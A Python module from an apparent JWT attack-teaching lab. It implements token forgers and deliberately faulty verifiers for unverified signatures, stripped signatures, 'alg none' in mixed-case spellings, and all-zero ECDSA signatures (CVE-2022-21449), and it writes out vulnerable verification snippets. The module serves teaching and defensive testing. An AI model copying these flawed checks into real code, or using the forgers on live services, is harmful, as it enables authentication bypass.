"""Attacks on the signature itself: never checked, cut off, declared absent, or all zeros.

Everything weak in here is weak on purpose.
"""

from __future__ import annotations

import hmac
from collections.abc import Callable, Mapping
from functools import partial
from typing import Any

from jwtlab.attacks import ecdsa, material, pyjwt
from jwtlab.attacks.model import Attack, Stage, Variant
from jwtlab.checks import Policy
from jwtlab.jose import base64url, jws, jwt
from jwtlab.jose.algorithms import Algorithm
from jwtlab.jose.token import decode

Goal = Mapping[str, Any]
ES256 = material.verifier()


def _stage(victim: Callable[[], Policy], goal: Goal, **knowledge: Any) -> Stage:
    good = material.token()
    return Stage(good, {"original": good, **knowledge}, ES256, victim())


def really_valid(case: jws.Case) -> bool:
    """What the sound check asks, for victims that are faulty only sometimes."""
    return case.algorithm.verify(case.key, case.reading.signing_input, case.signature)


# unverified


def forge_unverified(goal: Goal, *, original: str) -> str:
    """Other claims between the old header and the old signature."""
    return material.seal(material.signing_input(original, goal), decode(original).signature)


UNVERIFIED = Attack(
    id="unverified",
    title="Claims that nobody verified",
    knows="one token, such as their own",
    story="Mallory decodes a token, writes other claims into it and leaves the old signature where it was. "
    "The service decodes the token and never asks whether the signature still fits.",
    spec="RFC 7515 §5.2, RFC 8725 §3.3",
    cves=(),
    forge=forge_unverified,
    variants=(
        Variant(
            name="tampered",
            title="claims changed, signature kept",
            stage=partial(_stage, lambda: jwt.STANDARD.without("signature-valid")),
            stopped_by=("signature-valid",),
        ),
    ),
    code='claims = jwt.decode(token, options={"verify_signature": False})',
    pyjwt=pyjwt.unverified,
)


# signature-stripped


def forge_stripped(goal: Goal, *, original: str) -> str:
    """Other claims, and nothing after the last dot."""
    return material.seal(material.signing_input(original, goal), b"")


def _if_there_is_one() -> Policy:
    return material.weak_signature(
        "the signature matches, if there is one",
        lambda case: not case.signature or really_valid(case),
    )


def _as_far_as_it_goes(case: jws.Case) -> bool:
    # ServiceStack before 5.9.2 compared in a loop over the bytes that were sent: none sent, none wrong.
    ours = material.hs256(case.key.secret, case.reading.signing_input)
    return all(sent == own for sent, own in zip(case.signature, ours, strict=False))


def _stage_shorter(goal: Goal) -> Stage:
    good = material.token("HS256")
    verifier = material.verifier(material.key("HS256"), algorithms=("HS256",))
    victim = material.weak_signature("every byte of the signature that was sent matches", _as_far_as_it_goes)
    return Stage(good, {"original": good}, verifier, victim)


STRIPPED = Attack(
    id="signature-stripped",
    title="The signature cut off",
    knows="one token, such as their own",
    story="Mallory changes the claims and sends nothing after the last dot. "
    "The service has no signature to find fault with, and takes that for a good sign.",
    spec="RFC 8725 §3.3",
    cves=("CVE-2020-28042",),
    forge=forge_stripped,
    variants=(
        Variant(
            name="skipped",
            title="verified only if there is a signature",
            stage=partial(_stage, _if_there_is_one),
            stopped_by=("signature-valid",),
        ),
        Variant(
            name="compared-short",
            title="compared only as far as it goes",
            stage=_stage_shorter,
            stopped_by=("signature-valid",),
            code='data, _, signature = token.rpartition(".")\n'
            'right = hmac.digest(SECRET, data.encode(), "sha256")\n'
            "for sent, own in zip(b64decode(signature), right):   # nothing sent, nothing compared\n"
            "    if sent != own:\n        abort(401)",
        ),
    ),
    code='header, payload, signature = token.split(".")\n'
    "if signature:\n    jwt.decode(token, KEY, algorithms=[ALG])\nclaims = json.loads(b64decode(payload))",
    pyjwt=pyjwt.ask,
)


# alg-none


def forge_none(goal: Goal, *, original: str, spelling: str = "none") -> str:
    """The header says that there is no signature, and there is none (RFC 7518 §3.6)."""
    return material.seal(material.signing_input(original, goal, alg=spelling, kid=None), b"")


def _accepts_none(denied: str) -> Policy:
    def holds(case: jws.Case) -> bool:
        alg = case.header.get("alg")
        if not isinstance(alg, str) or alg == denied:
            return False
        if alg.lower() == "none":
            return True
        return really_valid(case)

    title = f"not {denied!r}, or else what the header says" if denied else "the header says how"
    return material.weak_signature(title, holds, "algorithm-allowed", "key-found", *material.KEY_CHECK_IDS)


def _none(spelling: str) -> Variant:
    denied = "" if spelling == "none" else "none"
    title = f"alg {spelling!r}" + (" slips past a deny list that minds case" if denied else "")
    stage = partial(_stage, partial(_accepts_none, denied), spelling=spelling)
    return Variant(name=spelling, title=title, stage=stage, stopped_by=("algorithm-allowed",))


ALG_NONE = Attack(
    id="alg-none",
    title="The token says that it is not signed",
    knows="one token, such as their own",
    story="RFC 7518 knows an algorithm called none for tokens that something else protects; Mallory writes it "
    "into the header. The service lets the token choose the algorithm, or refuses only one spelling of it.",
    spec="RFC 8725 §2.1, §3.1, §3.2",
    cves=("CVE-2018-1000531", "CVE-2022-23540"),
    forge=forge_none,
    variants=tuple(_none(spelling) for spelling in ("none", "None", "NONE", "nOnE")),
    code='alg = jwt.get_unverified_header(token)["alg"]\nclaims = jwt.decode(token, KEY, algorithms=[alg])',
    pyjwt=pyjwt.header_chooses,
)


# psychic-signature

ZERO_DER = base64url.decode("MAYCAQACAQA")


def forge_psychic(goal: Goal, *, original: str, signature: bytes = bytes(64)) -> str:
    """Any claims, and the numbers r = 0 and s = 0 as the signature."""
    return material.seal(material.signing_input(original, goal), signature)


def _psychic_victim() -> Policy:
    def holds(case: jws.Case) -> bool:
        try:
            r, s = ecdsa.read_signature(case.signature)
        except ValueError:
            return False
        return ecdsa.careless_verify(case.key, case.reading.signing_input, r, s)

    return material.weak_signature("the signature matches, by ECDSA without the range check", holds)


PSYCHIC = Attack(
    id="psychic-signature",
    title="An ECDSA signature of zeros",
    knows="that the service verifies ES256 with a faulty library",
    story="In ECDSA r and s lie between 1 and n - 1; Java 15 to 18 forgot to ask. "
    "With r = s = 0 both sides of the equation are zero, so that a blank signature fits every message.",
    spec="RFC 8725 §3.4",
    cves=("CVE-2022-21449",),
    forge=forge_psychic,
    variants=(
        Variant(
            name="raw",
            title="64 zero bytes",
            stage=partial(_stage, _psychic_victim),
            stopped_by=("signature-valid",),
        ),
        Variant(
            name="der",
            title="the two zeros in DER",
            stage=partial(_stage, _psychic_victim, signature=ZERO_DER),
            stopped_by=("signature-valid",),
        ),
    ),
    code="# nothing: the fault was in the Java runtime, below every library\n"
    'Signature.getInstance("SHA256withECDSAinP1363Format").verify(signature)',
    pyjwt=pyjwt.ask,
)


def same_bytes(one: bytes, other: bytes) -> bool:
    """Compared in constant time, also by victims: their fault is elsewhere."""
    return hmac.compare_digest(one, other)


def header_chooses_hmac(case: jws.Case, secret: bytes) -> bool:
    """The historical fault of key confusion: the header says which mathematics the key goes into."""
    alg = case.header.get("alg")
    if alg == "HS256":
        return same_bytes(material.hs256(secret, case.reading.signing_input), case.signature)
    return Algorithm.named(alg).verify(case.key, case.reading.signing_input, case.signature)
